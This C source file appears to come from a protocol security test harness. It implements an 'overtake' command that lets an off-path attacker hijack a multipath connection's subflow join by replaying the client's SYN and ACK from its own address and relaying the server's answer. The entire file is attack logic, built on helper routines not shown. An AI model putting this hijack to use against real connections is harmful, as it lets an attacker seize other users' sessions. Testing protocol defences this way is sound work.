// SPDX-License-Identifier: GPL-2.0-only
/*
 * Not in the middle of any path: what the client sends is seen and goes on its way. A SYN of a
 * join to which nobody has answered yet is sent again from the attacker's address, the
 * server's answer is given to the client as if it were its own, and the client's ACK is sent
 * again from the attacker's address.
 */
#include <stdio.h>

#include "attacker.h"

/* path=2: of the client's join; the attacker's own is on path 1 */
bool cmd_overtake(void)
{
	int path = (int)arg_number("path", "2") - 1;
	int64_t until = now_ms() + 20 * patience_ms;
	const struct connection *target;
	struct attempt attempt;
	struct segment syn = { 0 };
	struct frame frame;

	fflush(stdout);
	while (recorded.seen != 1 && now_ms() < until)
		pump(now_ms() + 1, false, &frame);
	target = last_connection();
	if (recorded.seen != 1 || !target)
		return false;
	if (!copy_answered(&attempt, target, NULL))
		return true;

	recorded.synack = attempt.synack;
	recorded.nonces[SERVER] = attempt.nonces[SERVER];
	recorded.seen = 2;
	syn.from = recorded.from;
	syn.to = recorded.to;
	syn.seq = recorded_seq;
	send_synack(path, CLIENT, &syn, attempt.synack, attempt.nonces[SERVER]);
	until = now_ms() + patience_ms;
	while (recorded.seen != 3 && now_ms() < until)
		pump(now_ms() + 1, false, &frame);
	printf(" client=%s", answers[recorded.seen == 3 ? ANSWERED : SILENT]);
	if (recorded.seen != 3)
		return true;
	end_join(&attempt, target, recorded.ack);
	return true;
}
